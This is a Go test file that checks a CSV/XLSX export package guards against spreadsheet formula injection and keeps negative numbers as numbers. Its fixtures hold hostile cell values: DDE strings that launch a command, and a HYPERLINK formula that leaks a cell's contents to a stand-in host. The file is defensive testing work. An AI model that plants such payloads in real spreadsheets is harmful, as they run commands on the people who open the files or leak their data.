package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/xinfang/xinfang/export"
	"github.com/xinfang/xinfang/store"
)

// hostile cells a spreadsheet would run, and what CSV and XLSX must hold instead.
var hostile = []struct{ in, want string }{
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`=HYPERLINK("http://example.invalid/?leak="&A1,"click")`, `'=HYPERLINK("http://example.invalid/?leak="&A1,"click")`},
	{`@SUM(1+9)*cmd|' /C calc'!A0`, `'@SUM(1+9)*cmd|' /C calc'!A0`},
	{`+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
	{`-2+3`, `'-2+3`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{`-3`, `-3`},     // a number written as text stays as it is (as in the browser download)
	{`+1.5`, `+1.5`}, // likewise
	{`a=1`, `a=1`},   // only the first character matters
	{`信访=1`, `信访=1`},
}

func TestNeutralise(t *testing.T) {
	for _, h := range hostile {
		if got := export.Neutralise(h.in); got != h.want {
			t.Errorf("Neutralise(%q) = %q, want %q", h.in, got, h.want)
		}
	}
}

// A mart table holding the hostile strings in a text column beside negative numbers:
// CSV and XLSX exports prefix the text with ', leave the numbers as numbers, and
// --raw (Options.Raw) keeps the text as stored.
func TestExportNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db, err := store.Open(ctx, filepath.Join(dir, "x.duckdb"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.ExecContext(ctx, `CREATE SCHEMA IF NOT EXISTS mart; CREATE TABLE mart.t (unit_id VARCHAR, name VARCHAR, n BIGINT, x DOUBLE)`); err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		if _, err := db.ExecContext(ctx, `INSERT INTO mart.t VALUES (?, ?, ?, ?)`, string(rune('a'+i)), h.in, -int64(i), -0.5*float64(i)); err != nil {
			t.Fatal(err)
		}
	}
	for _, raw := range []bool{false, true} {
		var buf bytes.Buffer
		if err := export.Table(ctx, db.DB, "t", export.Options{Format: "csv", Raw: raw}, &buf); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != len(hostile)+1 {
			t.Fatalf("csv rows = %d", len(recs))
		}
		for i, h := range hostile {
			want := h.want
			if raw {
				want = h.in
			}
			if got := recs[i+1][1]; got != want {
				t.Errorf("csv raw=%v: %q exported as %q, want %q", raw, h.in, got, want)
			}
		}
		// Numbers are numbers: -3 and -1.5 go out bare.
		if recs[4][2] != "-3" || recs[4][3] != "-1.5" {
			t.Errorf("csv numbers = %v", recs[4])
		}

		xl := filepath.Join(dir, "t.xlsx")
		if err := export.Table(ctx, db.DB, "t", export.Options{Format: "xlsx", Out: xl, Raw: raw}, nil); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenFile(xl)
		if err != nil {
			t.Fatal(err)
		}
		for i, h := range hostile {
			want := h.want
			if raw {
				want = h.in
			}
			addr, _ := excelize.CoordinatesToCellName(2, i+2)
			got, _ := f.GetCellValue("t", addr)
			if got != want {
				t.Errorf("xlsx raw=%v: %q stored as %q, want %q", raw, h.in, got, want)
			}
			if formula, _ := f.GetCellFormula("t", addr); formula != "" {
				t.Errorf("xlsx: %q became the formula %q", h.in, formula)
			}
		}
		if typ, _ := f.GetCellType("t", "C5"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("xlsx: the number in C5 has cell type %v", typ)
		}
		if v, _ := f.GetCellValue("t", "D5"); v != "-1.5" {
			t.Errorf("xlsx D5 = %q, want -1.5", v)
		}
		f.Close()
	}
}

// The report's workbook goes through the same writer: hostile text is neutralised,
// numbers stay numbers.
func TestWorkbookNeutralises(t *testing.T) {
	b, err := export.Workbook([]export.Sheet{{Name: "ranking 2026-Q1", Header: []string{"unit", "score"},
		Rows: [][]any{{`=HYPERLINK("http://x.invalid","y")`, 87.5}, {`@SUM(A1)`, -2.0}}}}, false)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("ranking 2026-Q1")
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][0] != `'=HYPERLINK("http://x.invalid","y")` || rows[1][1] != "87.5" || rows[2][0] != `'@SUM(A1)` || rows[2][1] != "-2" {
		t.Errorf("workbook rows = %q", rows)
	}
}
